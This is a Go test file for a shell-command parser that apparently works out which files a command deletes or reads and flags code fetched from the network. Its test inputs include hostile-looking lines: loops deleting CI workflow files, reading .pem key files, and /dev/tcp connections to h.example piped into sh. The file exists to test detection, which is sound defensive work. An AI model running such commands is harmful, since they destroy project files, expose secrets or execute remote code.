package shell

import (
	"slices"
	"strings"
	"testing"
)

// lastWords are the words of the last command of a line, those that are patterns with a G before them.
func lastWords(src string) string {
	res := Parse(src, testEnv())
	if len(res.Commands) == 0 {
		return ""
	}
	var out []string
	for _, w := range res.Commands[len(res.Commands)-1].Argv {
		if w.Glob {
			w.Text = "G" + w.Text
		}
		out = append(out, w.Text)
	}
	return strings.Join(out, " ")
}

func TestNames(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{`rm $(ls a/*.log)`, "rm Ga/*.log"},
		{`L=$(ls a/*.log | tail -1); rm "$L"`, "rm a/\uFFFD.log"},
		{`rm $(ls -t a/*.log | head -n 1)`, "rm a/\uFFFD.log"},
		{`rm $(ls -l a/*.log)`, "rm \uFFFD"},
		{`rm $(ls a)`, "rm \uFFFD"},
		{`ls a/x.log | xargs rm`, "rm a/x.log"},
		{`find a -name '*.pem' | xargs cat`, "cat a/\uFFFD/*.pem"},
		{`git ls-files '*ci*.yml' | while read -r f; do rm "$f"; done`, "rm G*ci*.yml"},
		{`for f in $(git ls-files .github); do rm $f; done`, "rm .github/\uFFFD"},
		{`for f in $(git ls-files | grep '^[.]gitlab-ci'); do rm $f; done`, "rm .gitlab-ci\uFFFD"},
		{`for f in $(git ls-files | grep -E '^(a|b)x[.]yml$' | sort); do rm $f; done`, "rm bx.yml"},
		{`git ls-files | grep 'workflows' | while read -r f; do rm "$f"; done`, "rm \uFFFDworkflows\uFFFD"},
		{`git ls-files | grep -v workflows | while read -r f; do rm "$f"; done`, "rm \uFFFD"},
		{`while read -r f; do rm "$f"; done < <(git ls-files | grep ^x/y)`, "rm x/y\uFFFD"},
		{`rm $(git ls-files | grep '[0-9]')`, "rm \uFFFD"},
		{`t=$(mktemp); echo rm x > "$t"; sh "$t"`, "rm x"},
		{`t=$(mktemp); u=$(mktemp); [ $t = $u ]`, "[ /tmp/tmp.x1 = /tmp/tmp.x2 ]"},
	} {
		if got := lastWords(c.src); got != c.want {
			t.Errorf("%s: %q, want %q", c.src, got, c.want)
		}
	}
}

func TestWithLiterals(t *testing.T) {
	for _, c := range []struct {
		pattern string
		want    []string
	}{
		{`^\.git(hub/workflows|lab-ci)`, []string{".github/workflows\uFFFD", ".gitlab-ci\uFFFD"}},
		{`a.*b$`, []string{"\uFFFDa\uFFFDb"}},
		{`(?i)CI`, []string{"\uFFFDci\uFFFD"}},
		{`[0-9]+`, nil},
		{`(`, nil},
		{``, nil},
		{strings.Repeat("(a|b)", 40), []string{}},
	} {
		got := withLiterals(c.pattern, true)
		if len(got) > maxNames || len(c.want) > 0 && !slices.Equal(got, c.want) || c.want == nil && got != nil {
			t.Errorf("%s: %q, want %q", c.pattern, got, c.want)
		}
	}
}

func TestSockets(t *testing.T) {
	for _, src := range []string{
		`exec 3<>/dev/tcp/h.example/80; cat <&3 | sh`,
		`cat < /dev/tcp/h.example/80 | sh`,
	} {
		downloaded := false
		for _, s := range Parse(src, testEnv()).Snippets {
			downloaded = downloaded || s.Code == "downloaded"
		}
		if !downloaded {
			t.Errorf("%s: what runs is not said to be downloaded", src)
		}
	}
	if res := Parse(`cat <&4 | sh`, testEnv()); len(res.Snippets) > 0 && res.Snippets[0].Code == "downloaded" {
		t.Error("an unknown descriptor is taken for a connection")
	}
}

func TestGluedNumber(t *testing.T) {
	id := identity{name: "perl", program: interpreter("perl", "-e")}
	id.program.Flags = flags("-i=--in-place")
	var got []string
	for _, o := range arguments(id, []Word{{Text: "-0777pi"}, {Text: "-e"}, {Text: "x"}}).options {
		got = append(got, o.Name)
	}
	if want := "-0777 -p --in-place -e"; strings.Join(got, " ") != want {
		t.Errorf("got %q, want %q", got, want)
	}
}
